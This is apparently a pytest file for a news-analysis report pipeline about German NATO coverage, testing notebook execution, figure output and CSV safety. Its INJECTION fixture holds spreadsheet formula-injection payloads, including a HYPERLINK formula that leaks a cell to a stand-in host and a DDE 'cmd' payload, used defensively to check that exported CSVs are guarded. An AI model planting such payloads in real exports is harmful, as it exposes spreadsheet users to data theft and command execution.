"""`python -m analysis report`: notebooks executed into reports/, HTML, figures listed."""

from __future__ import annotations

import json

import nbformat
import pandas as pd
import pytest

from analysis.report import NotebookFailed, format_report, report_notebooks, run_report


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    return tmp_path_factory.mktemp("report")


#: An export record built to attack a spreadsheet: outlet, title and text start with formulas.
INJECTION = {
    "title": '=HYPERLINK("http://example.invalid/?leak="&A1, "Nato-Gipfel")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "published": "2025-06-25T10:00:00+02:00",
    "text": "-2+3 ist keine Rechnung. Generalsekretär Mark Rutte fordert von Deutschland und Frankreich, "
    "bis 2035 fünf Prozent des BIP für Verteidigung auszugeben. Die Nato-Staaten hätten sich "
    "in Den Haag darauf geeinigt, sagte Rutte. Präsident Trump lobte die Einigung der Verbündeten.",
}


@pytest.fixture(scope="module")
def report_raw(base, samples_dir):
    """The samples plus an export whose name, outlet, title and text start like formulas."""
    import shutil

    raw = base / "raw"
    raw.mkdir()
    for sample in samples_dir.glob("0*.txt"):
        shutil.copy(sample, raw / sample.name)
    broken = '{"title": "=1+1", "text": '  # a malformed line, so that rejects.csv names the file
    (raw / "+injection.jsonl").write_text(json.dumps(INJECTION, ensure_ascii=False) + "\n" + broken + "\n", encoding="utf-8")
    return raw


@pytest.fixture(scope="module")
def report(base, report_raw):
    return run_report(report_raw, base / "processed", base / "reports")


def test_every_notebook_is_executed_and_rendered(report):
    names = [p.name for p in report_notebooks()]
    assert [p.name for p in report.notebooks] == names
    assert [p.name for p in report.html] == [n.replace(".ipynb", ".html") for n in names]
    for executed in report.notebooks:
        nb = nbformat.read(executed, as_version=4)
        code = [c for c in nb.cells if c.cell_type == "code"]
        assert all(c.get("execution_count") for c in code), f"{executed.name} did not run every cell"
        assert any("injected-parameters" in c.metadata.get("tags", []) for c in code)
        stderr = [o.get("text", "") for c in code for o in c.get("outputs", []) if o.get("name") == "stderr"]
        assert not [t for t in stderr if "Warning" in t or "IProgress" in t], f"{executed.name} shows warnings: {stderr}"


def test_source_notebooks_stay_clean(report):
    for notebook in report_notebooks():
        cells = json.loads(notebook.read_text(encoding="utf-8"))["cells"]
        assert not any(c.get("outputs") for c in cells if c["cell_type"] == "code")


def test_figures_come_in_four_formats(report, base):
    stems = {p.stem for p in report.figures}
    assert stems, "the report wrote no figures"
    for stem in stems:
        formats = {p.suffix for p in report.figures if p.stem == stem}
        expected = {".csv"} if stem.endswith("-evidence") else {".png", ".svg", ".pdf", ".csv"}
        assert formats == expected, (stem, formats)
    assert {p.parent for p in report.figures} == {base / "reports" / "figures"}
    text = format_report(report)
    assert all(stem in text for stem in stems)


def test_a_failing_notebook_is_named_with_its_cell(tmp_path, samples_dir):
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_markdown_cell("# 99 broken"),
        nbformat.v4.new_code_cell("processed_dir = None\nfigures_dir = None", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("total = 1\nassert total == 2, 'headline number changed'"),
    ]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, notebooks / "99-broken.ipynb")
    with pytest.raises(NotebookFailed) as err:
        run_report(samples_dir, tmp_path / "processed", tmp_path / "reports", notebooks)
    message = str(err.value)
    assert "notebook 99-broken.ipynb failed in cell" in message
    assert "'total = 1'" in message and "AssertionError: headline number changed" in message


def test_no_csv_cell_starts_like_a_formula(report, base):
    """Every CSV the report writes (tables and chart data) is safe in a spreadsheet."""
    import csv

    written = [*(base / "processed").glob("*.csv"), *(base / "reports" / "figures").glob("*.csv")]
    assert len(written) >= 20
    seen_guarded = set()
    for path in written:
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                    assert not cell.startswith("-") or _is_number(cell), (path.name, cell)
                    if cell.startswith("'"):
                        seen_guarded.add(path.name)
    # the injected outlet, title and file name reach these files, guarded
    assert {"corpus-articles-per-outlet.csv", "spending-evidence.csv", "rejects.csv"} <= seen_guarded


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_running_twice_gives_the_same_figures(report, base, report_raw):
    first = {p.name: p.read_bytes() for p in report.figures}
    again = run_report(report_raw, base / "processed", base / "reports")
    assert {p.name: p.read_bytes() for p in again.figures} == first


def test_report_reflects_added_articles(tmp_path, samples_dir, dev_corpus_path):
    """Samples plus 30 dev-corpus articles about NATO: every chart's data includes them."""
    import json
    import shutil

    raw = tmp_path / "raw"
    raw.mkdir()
    for sample in samples_dir.glob("*.txt"):
        shutil.copy(sample, raw / sample.name)
    rows = [line for line in dev_corpus_path.read_text(encoding="utf-8").split("\n") if line.strip()]
    nato = [line for line in rows if " Nato " in json.loads(line)["text"]][:30]
    (raw / "added.jsonl").write_text("\n".join(nato) + "\n", encoding="utf-8")
    added = run_report(raw, tmp_path / "processed", tmp_path / "reports")
    figures = tmp_path / "reports" / "figures"
    outlets = pd.read_csv(figures / "corpus-articles-per-outlet.csv")
    assert outlets["articles"].sum() == 35 == len(added.corpus.articles)
    assert {"zeit.de", "tagesspiegel.de", "sueddeutsche.de"} & set(outlets["outlet"])
    weekly = pd.read_csv(figures / "coverage-articles-per-week.csv", parse_dates=["period"])
    assert weekly["period"].min().year == 2020  # the timeline now starts with the added articles
    kept = added.corpus.articles[added.corpus.articles["duplicate_of"].isna()]
    assert weekly["articles"].sum() == kept["date_precision"].isin(["minute", "day"]).sum()
    actors = pd.read_csv(figures / "actors-most-mentioned.csv").set_index("actor_id")
    assert actors.loc["NATO", "articles"] >= 30 + 5
